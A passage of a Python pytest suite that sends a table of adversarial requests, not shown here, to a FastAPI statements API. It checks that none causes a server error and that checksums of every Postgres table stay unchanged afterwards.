async def cursor(app: FastAPI) -> str:
    """A true cursor, of the list of statements."""
    page = json.loads((await ask(app, Hostile("ok", "/v1/statements?limit=1"))).body)["page"]
    return str(page["next"])


@pytest.mark.parametrize(
    "request_", TABLE, ids=[f"{number}-{row.method} {row.target!r:.40}" for number, row in enumerate(TABLE)]
)
async def test_it_is_answered(app: FastAPI, cursor: str, request_: Hostile) -> None:
    """As expected, never with a 5xx."""
    check(request_, await ask(app, request_, cursor))


async def checksums(url: str) -> dict[str, str]:
    """A checksum of every table's rows."""
    connection = await asyncpg.connect(dsn(url))
    try:
        tables = await connection.fetch("SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY 1")
        return {
            name: await connection.fetchval(f"SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM \"{name}\" t")
            for (name,) in tables
        }
    finally:
        await connection.close()


async def test_nothing_is_changed(app: FastAPI, seeded_url: str, cursor: str) -> None:
    """All of them once more, many at a time: the same answers, and every table as it was."""
    before = await checksums(seeded_url)
    for start in range(0, len(TABLE), 20):
        rows = TABLE[start : start + 20]
        for row, answer in zip(rows, await asyncio.gather(*(ask(app, row, cursor) for row in rows)), strict=True):
            check(row, answer)
    after = await checksums(seeded_url)
    assert after == before
    assert before["statements"]


def test_the_table_is_large_enough() -> None:
    """Every row is another request, and there are many."""
    assert len(set(TABLE)) == len(TABLE)
    assert len(TABLE) >= 400
